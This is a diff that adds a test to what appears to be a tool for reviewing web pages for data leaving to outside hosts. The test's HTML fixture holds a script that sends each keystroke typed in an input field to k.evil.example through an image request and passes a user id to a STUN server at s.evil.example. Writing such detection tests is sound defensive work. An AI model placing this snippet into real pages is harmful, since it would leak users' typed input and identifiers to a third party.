@@ -267,3 +267,13 @@ def test_sarif_passes_the_official_validator(tmp_path, monkeypatch):
     results = json.loads(out.read_text(encoding="utf-8"))["runs"][0]["results"]
     errors = [(r["ruleId"], r["message"].get("text") or r["message"].get("arguments")) for r in results if r.get("level", "warning") == "error"]
     assert errors == []
+
+
+def test_paths_that_leave_name_inputs_and_webrtc(tmp_path):
+    block = tmp_path / "k.html"
+    block.write_text("<input id=q><script>document.getElementById('q').addEventListener('input', (e) => {\n"
+                     "  new Image().src = 'https://k.evil.example/?v=' + e.target.value; });\n"
+                     "const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:s.evil.example', username: flowUi.get('user.id')}]});"
+                     "</script>", encoding="utf-8")
+    text = to_text(review([str(block)], fields=["user.id"], static_only=True))
+    assert "paths that leave: input:#q -> k.evil.example; user.id -> (unknown host)" in text, text
